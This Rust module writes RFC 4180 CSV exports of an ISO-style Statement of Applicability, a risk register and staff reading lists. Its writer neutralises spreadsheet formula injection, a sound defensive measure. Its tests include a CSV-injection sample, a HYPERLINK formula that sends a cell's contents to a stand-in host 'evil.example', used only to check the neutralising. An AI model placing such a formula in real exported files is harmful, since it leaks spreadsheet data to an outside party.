//! CSV files for spreadsheets, auditors, HR and learning systems: the
//! Statement of Applicability, the risk register and the reading lists,
//! through one writer that every CSV of the site uses.
//!
//! A file is RFC 4180 (CRLF line ends, fields quoted when needed), starts
//! with a UTF-8 byte-order mark so that spreadsheets read accents right,
//! and every cell that a spreadsheet would run as a formula is neutralised
//! (the OWASP rule against CSV injection): a cell whose text starts with
//! `=`, `+`, `-`, `@` (or their full-width forms), a tab or a carriage
//! return gets a `'` in front, which spreadsheets show as text.

use crate::handbook::{Assessed, Handbook, urls};

/// A CSV file being written, row by row.
#[derive(Debug, Clone)]
pub struct Csv {
    text: String,
}

impl Csv {
    /// A file with the byte-order mark and the header row.
    pub fn new(header: &[&str]) -> Csv {
        let mut csv = Csv {
            text: String::from("\u{feff}"),
        };
        csv.row(header);
        csv
    }

    /// Appends one row.
    pub fn row<S: AsRef<str>>(&mut self, cells: impl IntoIterator<Item = S>) {
        for (i, cell) in cells.into_iter().enumerate() {
            if i > 0 {
                self.text.push(',');
            }
            push_cell(&mut self.text, cell.as_ref());
        }
        self.text.push_str("\r\n");
    }

    /// The whole file.
    pub fn finish(self) -> String {
        self.text
    }
}

/// Whether a spreadsheet could read `cell` as a formula.
fn formula_like(cell: &str) -> bool {
    cell.starts_with(['\t', '\r'])
        || cell
            .trim_start()
            .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

fn push_cell(out: &mut String, cell: &str) {
    let neutralised = formula_like(cell);
    let quoted = neutralised || cell.contains([',', ';', '"', '\r', '\n']);
    if quoted {
        out.push('"');
    }
    if neutralised {
        out.push('\'');
    }
    if quoted {
        out.push_str(&cell.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(cell);
    }
}

/// The header row of `soa.csv`.
pub const SOA_HEADER: [&str; 11] = [
    "Control",
    "Title",
    "Theme",
    "Applicable",
    "Justification",
    "Status",
    "Owner",
    "Implementing documents",
    "Risks",
    "Evidence",
    "Last changed",
];

/// The SoA of `h`: one row per control, in clause order.
pub fn soa(h: &Handbook) -> String {
    let mut csv = Csv::new(&SOA_HEADER);
    for c in &h.controls {
        let info = c.info();
        let s = c.statement.as_ref();
        let applicable = match s.map(|s| s.applicable) {
            Some(true) => "Yes",
            Some(false) => "No",
            None => "",
        };
        let owner = s
            .and_then(|s| s.owner)
            .map_or("", |o| h.roles[o].title.as_str());
        let documents: Vec<&str> = c
            .policies
            .iter()
            .map(|&p| h.policies[p].title.as_str())
            .collect();
        let risks: Vec<&str> = h.risks_of(c.index).map(|(r, _)| r.id.as_str()).collect();
        let evidence: Vec<&str> = s.map_or_else(Vec::new, |s| {
            s.evidence.iter().map(|e| e.title.0.as_str()).collect()
        });
        let changed = s
            .and_then(|s| s.source.changed)
            .map(|d| d.to_string())
            .unwrap_or_default();
        csv.row([
            info.id,
            info.title,
            info.theme.name(),
            applicable,
            s.map_or("", |s| s.justification.as_str()),
            c.state().label(),
            owner,
            &documents.join("; "),
            &risks.join("; "),
            &evidence.join("; "),
            &changed,
        ]);
    }
    csv.finish()
}

/// The header row of `risks.csv`.
pub const RISK_HEADER: [&str; 27] = [
    "Risk",
    "Title",
    "Owner",
    "Status",
    "Assets",
    "Threats",
    "Vulnerabilities",
    "Properties",
    "Inherent likelihood",
    "Inherent impact",
    "Inherent level",
    "Current likelihood",
    "Current impact",
    "Current level",
    "Existing controls",
    "Treatment",
    "Planned controls",
    "Residual likelihood",
    "Residual impact",
    "Residual level",
    "Open actions",
    "Next action due",
    "Accepted by",
    "Accepted on",
    "Acceptance expires",
    "Reviewed",
    "Next review",
];

/// The risk register of `h` as RFC 4180 text, one row per risk.
pub fn risks(h: &Handbook) -> String {
    let catalog = h.catalog();
    let criteria = &h.config.risk;
    let role = |id: &str| {
        h.roles
            .iter()
            .find(|r| r.id == id)
            .map_or_else(|| id.to_owned(), |r| r.title.clone())
    };
    let score = |a: Option<Assessed>| match a {
        Some(a) => [
            a.score.likelihood.to_string(),
            a.score.impact.to_string(),
            criteria.levels[a.level].name.clone(),
        ],
        None => Default::default(),
    };
    let controls = |list: &[usize]| {
        list.iter()
            .map(|&c| catalog.controls[c].id)
            .collect::<Vec<_>>()
            .join("; ")
    };
    let date = |d: Option<crate::content::meta::Date>| d.map(|d| d.to_string()).unwrap_or_default();
    let mut csv = Csv::new(&RISK_HEADER);
    for r in &h.risks {
        let open: Vec<_> = r.treatment.actions.iter().filter(|a| a.is_open()).collect();
        let acceptance = r.acceptance.as_ref();
        let [il, ii, ilevel] = score(r.inherent);
        let [cl, ci, clevel] = score(r.current);
        let [rl, ri, rlevel] = score(r.residual);
        csv.row([
            r.id.clone(),
            r.title.clone(),
            role(&r.owner),
            super::register::status_label(r.status).to_owned(),
            r.assets.join("; "),
            r.threats.join("; "),
            r.vulnerabilities.join("; "),
            r.cia
                .iter()
                .map(|&c| super::register::cia_label(c))
                .collect::<Vec<_>>()
                .join("; "),
            il,
            ii,
            ilevel,
            cl,
            ci,
            clevel,
            controls(&r.existing_controls),
            r.treatment
                .option
                .map(super::register::option_label)
                .unwrap_or_default()
                .to_owned(),
            controls(&r.planned_controls()),
            rl,
            ri,
            rlevel,
            open.len().to_string(),
            date(open.iter().map(|a| a.due).min()),
            acceptance.map(|a| role(&a.by)).unwrap_or_default(),
            date(acceptance.map(|a| a.date)),
            date(acceptance.and_then(|a| a.expires)),
            r.reviewed.to_string(),
            r.next_review.to_string(),
        ]);
    }
    csv.finish()
}

/// The header row of `reading-lists.csv`.
pub const READING_HEADER: [&str; 7] = [
    "Role",
    "Role id",
    "Policy id",
    "Title",
    "Version",
    "Minutes",
    "URL",
];

/// Every reading list, one row per list and policy: everyone's first (role
/// `Everyone`, no role id: every member of staff reads them), then each
/// role's own. A role's whole list is everyone's rows and its own, so the
/// file grows with the policies, not with roles × policies. URLs start at
/// the site root, after `site-url` when it is set.
pub fn reading_lists(h: &Handbook) -> String {
    let base = h
        .config
        .html
        .site_url
        .as_deref()
        .map(|u| format!("{}/", u.trim_end_matches('/')))
        .unwrap_or_default();
    let mut csv = Csv::new(&READING_HEADER);
    let lists = std::iter::once(("Everyone", "", &h.everyone)).chain(
        h.roles
            .iter()
            .map(|r| (r.title.as_str(), r.id.as_str(), &r.reading_list)),
    );
    for (role, id, list) in lists {
        for &p in list {
            let policy = &h.policies[p];
            csv.row([
                role,
                id,
                &policy.id,
                &policy.title,
                policy.version.as_deref().unwrap_or(""),
                &policy.minutes.to_string(),
                &format!("{base}{}", urls::href(&urls::policy(&policy.id))),
            ]);
        }
    }
    csv.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one_row(cells: &[&str]) -> String {
        let mut csv = Csv::new(&[]);
        csv.row(cells);
        csv.finish()
            .strip_prefix("\u{feff}\r\n")
            .unwrap()
            .to_owned()
    }

    #[test]
    fn starts_with_a_byte_order_mark_and_the_header() {
        let csv = Csv::new(&["Control", "Title"]).finish();
        assert_eq!(csv, "\u{feff}Control,Title\r\n");
    }

    #[test]
    fn quotes_only_fields_that_need_it() {
        assert_eq!(
            one_row(&[
                "plain",
                "a, b",
                "say \"hi\"",
                "two\nlines",
                "a; b",
                "Zürich"
            ]),
            "plain,\"a, b\",\"say \"\"hi\"\"\",\"two\nlines\",\"a; b\",Zürich\r\n"
        );
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_neutralised() {
        assert_eq!(
            one_row(&[r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#]),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"\r\n"
        );
        for cell in [
            "=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "  =1+1", "＝1+1",
        ] {
            let row = one_row(&[cell]);
            assert!(row.starts_with("\"'"), "{cell:?} → {row:?}");
        }
        for cell in ["a=1", "5.15", "x-y", "e@mail", ""] {
            let row = one_row(&[cell]);
            assert_eq!(row, format!("{cell}\r\n"), "{cell:?}");
        }
    }
}
